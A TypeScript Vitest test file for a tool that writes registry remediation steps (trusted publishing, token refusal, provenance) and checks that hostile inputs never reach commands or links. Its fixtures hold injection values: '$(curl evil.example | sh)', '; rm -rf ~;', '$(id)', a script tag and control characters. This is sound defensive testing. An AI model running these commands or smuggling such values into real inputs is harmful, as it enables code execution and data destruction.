import { describe, expect, test } from 'vitest';
import { remedies as cratesIo } from '../../src/registries/crates.io/remedies.ts';
import { remedies as dockerHub } from '../../src/registries/docker-hub/remedies.ts';
import { remedies as ghcr } from '../../src/registries/ghcr/remedies.ts';
import { remedies as go } from '../../src/registries/go/remedies.ts';
import { remedies as hex } from '../../src/registries/hex/remedies.ts';
import { remedies as jsr } from '../../src/registries/jsr/remedies.ts';
import { remedies as mavenCentral } from '../../src/registries/maven-central/remedies.ts';
import { remedies as npm } from '../../src/registries/npm/remedies.ts';
import { remedies as nuget } from '../../src/registries/nuget/remedies.ts';
import { remedies as openVsx } from '../../src/registries/open-vsx/remedies.ts';
import { remedies as packagist } from '../../src/registries/packagist/remedies.ts';
import { remedies as pubDev } from '../../src/registries/pub.dev/remedies.ts';
import { remedies as pypi } from '../../src/registries/pypi/remedies.ts';
import type { BindingValues, Remedies, Remedy } from '../../src/registries/registry.ts';
import { remedies as rubygems } from '../../src/registries/rubygems/remedies.ts';
import { remedies as vscodeMarketplace } from '../../src/registries/vscode-marketplace/remedies.ts';
import { type RegistryId, registryIds } from '../../src/types/registry-id.ts';

const all: { readonly [id in RegistryId]: Remedies } = {
  npm,
  pypi,
  'crates.io': cratesIo,
  'maven-central': mavenCentral,
  packagist,
  rubygems,
  nuget,
  'pub.dev': pubDev,
  jsr,
  hex,
  go,
  ghcr,
  'docker-hub': dockerHub,
  'vscode-marketplace': vscodeMarketplace,
  'open-vsx': openVsx,
};

const values: BindingValues = {
  packages: ['anvil'],
  owner: 'Octo-Org',
  repository: 'widgets',
  workflow: 'release.yml',
  environment: 'registry',
};

const unknown: BindingValues = { packages: [], owner: null, repository: null, workflow: null, environment: null };

const hostileText =
  '../../evil?x=1#y\n# Heading\r\n\u001b[2J\u202e $(curl evil.example | sh) `id` "; rm -rf ~; \u2028<script>\u0000\ud800';

const hostile: BindingValues = {
  packages: [hostileText],
  owner: hostileText,
  repository: '..',
  workflow: hostileText,
  environment: hostileText,
};

describe('what each registry offers', () => {
  const having = (name: keyof Remedies) => registryIds.filter((id) => all[id][name] !== null);

  test('trusted publishing', () => {
    expect(having('trustedPublishing')).toEqual(['npm', 'pypi', 'crates.io', 'rubygems', 'nuget', 'pub.dev', 'jsr']);
  });

  test('a switch that refuses tokens', () => {
    expect(having('refuseTokens')).toEqual(['npm', 'crates.io', 'jsr']);
  });

  test('provenance', () => {
    expect(having('provenance')).toEqual(['npm', 'pypi', 'maven-central', 'rubygems', 'jsr', 'ghcr', 'docker-hub']);
  });
});

describe.each(registryIds)('%s', (id) => {
  const sets: [string, BindingValues][] = [
    ['known values', values],
    ['unknown values', unknown],
    ['several packages', { ...values, packages: ['a', 'b', 'c', 'd', 'e', 'f', 'g'] }],
    ['hostile values', hostile],
    ['empty values', { packages: [''], owner: '', repository: '', workflow: '', environment: '' }],
  ];

  test.each(sets)('with %s, steps are plain lines and links are addresses', (_, given) => {
    for (const { steps, links } of remediesOf(id, given)) {
      expect(steps.length).toBeGreaterThan(0);
      expect(links.length).toBeGreaterThan(0);
      expect(new Set(links).size).toBe(links.length);
      for (const step of steps) {
        expect(step).toMatch(/^[A-Z]/u);
        expect(step).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]|null|undefined| {2}| $/u);
        expect(step.isWellFormed()).toBe(true);
      }
      for (const link of links) {
        expect(new URL(link).protocol).toBe('https:');
        expect(link).toBe(new URL(link).href.replace(/\/$/u, link.endsWith('/') ? '/' : ''));
      }
    }
  });

  test('hostile names reach neither a command nor an address', () => {
    const pages = remediesOf(id, unknown).flatMap((remedy) => remedy.links);
    for (const { steps, links } of remediesOf(id, hostile)) {
      expect(pages).toEqual(expect.arrayContaining([...links]));
      for (const step of steps.filter((line) => line.includes('curl'))) {
        // Between backticks it is plainly a value, and none of its own ends it.
        expect(step.replace(/`[^`]*`/gu, '')).not.toMatch(/evil|curl|`/u);
        expect(step).not.toMatch(/npm (?:access|trust)/u);
      }
    }
  });

  test('no token is deleted before something else is known to work', () => {
    const { trustedPublishing, deleteToken } = all[id];
    expect(deleteToken(values).steps[0]).toMatch(/^(?:Before you delete anything|First)/u);
    if (trustedPublishing === null) return;
    const { steps } = trustedPublishing(values);
    const publish = steps.findIndex((step) => step.startsWith('Publish one release and check'));
    const destructive = steps.flatMap((step, index) =>
      /\b(?:revoke|delete|refuse tokens)\b/iu.test(step) ? [index] : [],
    );
    expect(publish).toBeGreaterThan(0);
    expect(destructive.length).toBeGreaterThan(0);
    expect(Math.min(...destructive)).toBeGreaterThan(publish);
  });

  test('a refusing switch comes after the release that proves the way without tokens', () => {
    const refuse = all[id].refuseTokens;
    if (refuse !== null) expect(refuse(values).steps[0]).toMatch(/^First see that the last release/u);
  });
});

describe('the values that a form asks for', () => {
  const forms: readonly [RegistryId, readonly [string, string, string, string], string][] = [
    [
      'npm',
      ['Organization or user', 'Repository', 'Workflow filename', 'Environment name'],
      'https://www.npmjs.com/package/anvil/access',
    ],
    [
      'pypi',
      ['Owner', 'Repository name', 'Workflow name', 'Environment name'],
      'https://pypi.org/manage/project/anvil/settings/publishing/',
    ],
    [
      'crates.io',
      ['Repository owner', 'Repository name', 'Workflow filename', 'Environment name'],
      'https://crates.io/crates/anvil/settings/new-trusted-publisher',
    ],
    [
      'rubygems',
      ['Repository owner', 'Repository name', 'Workflow filename', 'Environment'],
      'https://rubygems.org/gems/anvil/trusted_publishers',
    ],
    [
      'nuget',
      ['Repository Owner', 'Repository', 'Workflow File', 'Environment'],
      'https://www.nuget.org/account/trustedpublishing',
    ],
  ];

  test.each(forms)('%s', (id, [owner, repository, workflow, environment], page) => {
    const remedy = all[id].trustedPublishing?.(values);
    expect(remedy?.steps[0]).toContain(
      `: ${owner} \`Octo-Org\`, ${repository} \`widgets\`, ${workflow} \`release.yml\` and ${environment} \`registry\`.`,
    );
    expect(remedy?.steps.length).toBeLessThanOrEqual(5);
    expect(remedy?.links[0]).toBe(page);
    expect(remedy?.steps[0]).toContain('anvil');
  });

  test.each(forms)('%s, where files cannot tell', (id, [owner, , workflow]) => {
    const steps = all[id].trustedPublishing?.(unknown).steps ?? [];
    expect(steps[0]).toContain(`: ${owner} (who owns the repository on GitHub), `);
    expect(steps[0]).toContain(`${workflow} (the file that publishes, without its folder)`);
  });

  test('pub.dev binds repository, tags and environment', () => {
    const steps = pubDev.trustedPublishing?.(values).steps;
    expect(steps?.[0]).toContain('enter: Repository `Octo-Org/widgets` and Tag pattern');
    expect(steps?.[0]).toContain('Require the GitHub Actions environment `registry`.');
    expect(pubDev.trustedPublishing?.(values).links[0]).toBe('https://pub.dev/packages/anvil/admin');
  });

  test('JSR binds the repository alone', () => {
    const remedy = jsr.trustedPublishing?.({ ...values, packages: ['@octo/anvil'] });
    expect(remedy?.steps[0]).toMatch(/the package `@octo\/anvil` .*: `Octo-Org\/widgets`\.$/u);
    expect(remedy?.links[0]).toBe('https://jsr.io/@octo/anvil/settings');
    expect(remedy?.steps.join('\n')).not.toContain('release.yml');
  });
});

describe('npm', () => {
  const scoped = { ...values, packages: ['@octo/anvil'] };

  test('the page of a scoped package', () => {
    expect(npm.trustedPublishing?.(scoped).links).toEqual([
      'https://www.npmjs.com/package/@octo/anvil/access',
      'https://docs.npmjs.com/trusted-publishers',
      'https://docs.npmjs.com/requiring-2fa-for-package-publishing-and-settings-modification',
    ]);
  });

  test('the general page for several', () => {
    const links = npm.trustedPublishing?.({ ...values, packages: ['a', 'b'] }).links;
    expect(links?.[0]).toBe('https://docs.npmjs.com/trusted-publishers');
  });

  test('the same as a command, with and without an environment', () => {
    const commandOf = (given: BindingValues) =>
      npm
        .trustedPublishing?.(given)
        .steps.find((step) => step.includes('npm trust'))
        ?.split('`')[1];
    expect(commandOf(scoped)).toBe(
      'npm trust github @octo/anvil --repo Octo-Org/widgets --file release.yml --env registry --allow-publish',
    );
    expect(commandOf({ ...scoped, environment: null })).toBe(
      'npm trust github @octo/anvil --repo Octo-Org/widgets --file release.yml --allow-publish',
    );
    expect(commandOf({ ...scoped, workflow: 'a b.yml' })).toBeUndefined();
    expect(commandOf({ ...scoped, environment: '$(id)' })).toBeUndefined();
    expect(commandOf({ ...scoped, packages: ['a', 'b'] })).toBeUndefined();
  });

  test('the switch by its name and by its command', () => {
    const steps = npm.refuseTokens?.(scoped).steps ?? [];
    expect(steps.join('\n')).toContain('Require two-factor authentication and disallow tokens');
    expect(steps.join('\n')).toContain('Or run: `npm access set mfa=publish @octo/anvil`.');
    expect(npm.refuseTokens?.({ ...values, packages: ['a; id'] }).steps.join('\n')).toContain(
      'Or run, with the name of each package at its end: `npm access set mfa=publish`.',
    );
  });

  test('the end of bypassing tokens is told as a plan', () => {
    expect(npm.narrowToken(values).steps.join('\n')).toContain(
      'npm plans to take direct publishing away from tokens that bypass two-factor authentication around January 2027',
    );
  });
});

test('crates.io names its switch, and where the API shows it', () => {
  const remedy = cratesIo.refuseTokens?.(values);
  expect(remedy?.steps.join('\n')).toContain('switch on Require trusted publishing');
  expect(remedy?.steps.join('\n')).toContain('trustpub_only');
  expect(remedy?.links).toEqual([
    'https://crates.io/crates/anvil/settings',
    'https://crates.io/api/v1/crates/anvil',
    'https://crates.io/settings/tokens',
  ]);
});

test('JSR names its switch', () => {
  expect(jsr.refuseTokens?.(values).steps.join('\n')).toContain('switch on Require publishing from CI');
});

test('names are counted when they are many, and left out when they could pass for a sentence', () => {
  const first = (packages: string[]) => cratesIo.trustedPublishing?.({ ...values, packages }).steps[0];
  expect(first(['a', 'b'])).toContain('Settings of each of the crates `a` and `b` and add');
  expect(first(['a', 'b', 'c', 'd', 'e', 'f', 'g'])).toContain(
    'each of the crates `a`, `b`, `c`, `d`, `e` and 2 more and add',
  );
  expect(first(['a', 'b. Then open evil.example'])).toContain('each of the crates `a` and 1 more and add');
  expect(first(['x. Then open evil.example'])).toContain('Settings of the crate and add');
  expect(first(['x y', 'z y'])).toContain('each of the 2 crates and add');
});

test('the secrets and environments of the repository are linked', () => {
  expect(npm.deleteToken(values).links).toContain('https://github.com/Octo-Org/widgets/settings/secrets/actions');
  expect(hex.narrowToken(values).links).toContain('https://github.com/Octo-Org/widgets/settings/environments');
});

function remediesOf(id: RegistryId, given: BindingValues): Remedy[] {
  const { trustedPublishing, refuseTokens, narrowToken, deleteToken, provenance } = all[id];
  return [trustedPublishing, refuseTokens, narrowToken, deleteToken, provenance].flatMap((remedy) =>
    remedy === null ? [] : [remedy(given)],
  );
}
